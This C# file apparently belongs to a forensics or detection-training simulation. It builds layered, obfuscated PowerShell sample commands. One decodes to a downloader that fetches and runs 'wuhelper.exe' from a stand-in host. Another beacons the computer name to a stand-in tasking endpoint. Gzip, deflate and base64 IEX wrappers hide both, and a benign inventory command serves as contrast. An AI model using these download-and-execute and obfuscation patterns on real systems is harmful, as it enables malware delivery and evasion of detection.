using System.Text;

namespace Quarry.Samples;

/// <summary>What the encoded command lines hold, layer by layer. The last layers name documentation hosts only.</summary>
internal static class Encoded
{
    /// <summary>Layer 1.1.1 of the first encoded command: base64 in a script in gzip in base64 in UTF-16 in base64.</summary>
    public const string Downloader =
        "$u='http://cdn-assets.example.net/media/wuhelper.txt';"
        + "$d=\"$env:APPDATA\\wuhelper.exe\";"
        + "(New-Object Net.WebClient).DownloadFile($u,$d);Start-Process $d";

    /// <summary>Layer 1.1 of the second encoded command: a script in raw deflate.</summary>
    public const string Tasking =
        "$id=$env:COMPUTERNAME\r\n"
        + "$t=(New-Object Net.WebClient).DownloadString(\"https://telemetry.example.org/api/v2/tasks?id=$id\")\r\n"
        + "if ($t) { $t | Out-File C:\\Windows\\Temp\\wu.log }\r\n";

    /// <summary>The monitoring agent's own encoded command: encoded, and nothing is wrong with it.</summary>
    public const string Inventory =
        "Get-Service | Where-Object { $_.StartType -eq 'Automatic' -and $_.Status -ne 'Running' } | "
        + "Select-Object Name, DisplayName | ConvertTo-Json -Compress";

    /// <summary>Layer 1.1 of the first encoded command.</summary>
    public static string Loader { get; } =
        "# refresh of the document cache\r\n"
        + "[Net.ServicePointManager]::SecurityProtocol = [Net.SecurityProtocolType]::Tls12\r\n"
        + "$text = [Text.Encoding]::UTF8.GetString([Convert]::FromBase64String('"
        + Base64(Encoding.UTF8.GetBytes(Downloader)) + "'))\r\n"
        + "& ([ScriptBlock]::Create($text))\r\n";

    /// <summary>Layer 1 of the first encoded command.</summary>
    public static string Outer { get; } =
        "$s=New-Object IO.MemoryStream(,[Convert]::FromBase64String('"
        + Base64(FixedDeflate.Gzip(Encoding.ASCII.GetBytes(Loader)))
        + "'));IEX (New-Object IO.StreamReader(New-Object IO.Compression.GzipStream($s,"
        + "[IO.Compression.CompressionMode]::Decompress))).ReadToEnd();";

    /// <summary>Layer 1 of the second encoded command.</summary>
    public static string OuterTasking { get; } =
        "IEX (New-Object IO.StreamReader((New-Object IO.Compression.DeflateStream("
        + "[IO.MemoryStream][Convert]::FromBase64String('"
        + Base64(FixedDeflate.Deflate(Encoding.ASCII.GetBytes(Tasking)))
        + "'),[IO.Compression.CompressionMode]::Decompress)),[Text.Encoding]::ASCII)).ReadToEnd()";

    /// <summary>The text as PowerShell's -EncodedCommand takes it.</summary>
    public static string ForPowerShell(string script) => Base64(Encoding.Unicode.GetBytes(script));

    /// <summary>Starts the monitoring agent's daily inventory.</summary>
    public static void PlantInventory(WindowsHost host, ProcessNode agent, DateTime time) => host.StartConsole(
        agent,
        time,
        @"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe",
        "powershell.exe -NoProfile -EncodedCommand " + ForPowerShell(Inventory),
        host.System,
        9,
        ("an encoded command that is harmless: the monitoring agent's inventory", "-NoProfile -EncodedCommand RwBlAHQALQ"));

    private static string Base64(byte[] bytes) => Convert.ToBase64String(bytes);
}
